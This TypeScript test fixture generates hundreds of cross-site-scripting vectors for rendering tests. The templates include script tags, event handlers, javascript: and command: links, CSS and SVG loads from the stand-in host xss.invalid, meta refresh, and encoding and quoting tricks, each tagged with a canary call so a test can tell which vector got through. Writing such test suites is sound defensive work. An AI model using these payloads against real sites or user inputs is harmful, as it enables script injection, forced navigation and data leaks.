// Hostile values for the Board's rendering tests: script injection, event handlers,
// javascript: and command: links, CSS that loads from outside, SVG, <meta refresh>, <base>,
// forms, and the same in the encodings and quoting tricks filters miss. Each vector that could
// run calls window.__xosPwned(id) or loads http://xss.invalid/<id>, so a test sees exactly which
// one got through.

export const EXFIL_HOST = 'xss.invalid';

/** Vector templates; `$` becomes the vector's id. */
const TEMPLATES = [
  '<script>__xosPwned("$")</script>',
  '<SCRIPT SRC=http://xss.invalid/$.js></SCRIPT>',
  '<img src=x onerror=__xosPwned("$")>',
  '<img src="http://xss.invalid/$">',
  '<IMG SRC=javascript:__xosPwned("$")>',
  '<svg onload=__xosPwned("$")>',
  '<svg><script>__xosPwned("$")</script></svg>',
  '<svg><a xlink:href="javascript:__xosPwned(\'$\')"><text x="20" y="20">click</text></a></svg>',
  '<svg><image href="http://xss.invalid/$"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__xosPwned("$")>',
  '<body onload=__xosPwned("$")>',
  '<iframe src="javascript:__xosPwned(\'$\')"></iframe>',
  '<iframe srcdoc="<script>parent.__xosPwned(\'$\')</script>"></iframe>',
  '<iframe src="http://xss.invalid/$"></iframe>',
  '<object data="http://xss.invalid/$"></object>',
  '<embed src="http://xss.invalid/$">',
  '<a href="javascript:__xosPwned(\'$\')">link</a>',
  '<a href="command:workbench.action.terminal.new?$">Save</a>',
  '[Save](command:workbench.action.files.save?$)',
  '<a href="http://xss.invalid/$" id="xos-link-$">more</a>',
  '<form action="http://xss.invalid/$"><input type=submit autofocus onfocus=__xosPwned("$")></form>',
  '<input autofocus onfocus=__xosPwned("$")>',
  '<details open ontoggle=__xosPwned("$")>',
  '<video><source onerror=__xosPwned("$")></video>',
  '<audio src=x onerror=__xosPwned("$")>',
  '<marquee onstart=__xosPwned("$")>',
  '<meta http-equiv="refresh" content="0;url=http://xss.invalid/$">',
  '<base href="http://xss.invalid/$/">',
  '<link rel=stylesheet href="http://xss.invalid/$.css">',
  '<style>@import "http://xss.invalid/$.css";</style>',
  '<style>body{background:url("http://xss.invalid/$")}</style>',
  '<div style="background-image:url(http://xss.invalid/$)">x</div>',
  '<div style="width:expression(__xosPwned(\'$\'))">x</div>',
  '"><script>__xosPwned("$")</script>',
  "'><img src=x onerror=__xosPwned('$')>",
  '" onmouseover="__xosPwned(\'$\')" x="',
  "' autofocus onfocus='__xosPwned(\"$\")' x='",
  '</textarea><script>__xosPwned("$")</script>',
  '</title><script>__xosPwned("$")</script>',
  '</style><script>__xosPwned("$")</script>',
  '<!--<img src="--><img src=x onerror=__xosPwned("$")>',
  '<noscript><p title="</noscript><img src=x onerror=__xosPwned(\'$\')>">',
  '&lt;script&gt;__xosPwned("$")&lt;/script&gt;',
  '&#60;img src=x onerror=__xosPwned("$")&#62;',
  '\u003cimg src=x onerror=__xosPwned("$")\u003e',
  'javascript:__xosPwned("$")',
  'data:text/html,<script>__xosPwned("$")</script>',
  '${__xosPwned("$")}',
  '{{constructor.constructor(\'__xosPwned("$")\')()}}',
  '<template><img src=x onerror=__xosPwned("$")></template>',
  '<slot name=x onclick=__xosPwned("$")>',
  '<xos-board onclick=__xosPwned("$")>',
  '<img srcset="http://xss.invalid/$ 1x">',
  '<picture><source srcset="http://xss.invalid/$"><img></picture>',
  '<isindex type=image src=1 onerror=__xosPwned("$")>',
  '<table background="http://xss.invalid/$">',
  '<input type="image" src="http://xss.invalid/$">',
  '<object data="data:text/html,<script>parent.__xosPwned(\'$\')</script>">',
  '\u202e<img src=x onerror=__xosPwned("$")>',
  '<img src=x oNeRrOr=__xosPwned("$")>',
];

export interface Vector {
  readonly id: string;
  readonly text: string;
}

/** At least `count` vectors: every template, then the same wrapped in text and quotes, until there are enough. */
export function xssVectors(count = 300): Vector[] {
  const wrappers = [(v: string) => v, (v: string) => `Max ${v} Mustermann`, (v: string) => `"${v}"`, (v: string) => `${v}${v}`, (v: string) => v.toUpperCase().replaceAll('__XOSPWNED', '__xosPwned').replace(/\bV(\d+)\b/g, 'v$1'), (v: string) => `\n${v}\t`];
  const vectors: Vector[] = [];
  for (let round = 0; vectors.length < count; round++) {
    const wrap = wrappers[round % wrappers.length];
    for (const template of TEMPLATES) {
      const id = `v${vectors.length}`;
      vectors.push({ id, text: wrap(template.replaceAll('$', id)) });
    }
  }
  return vectors;
}
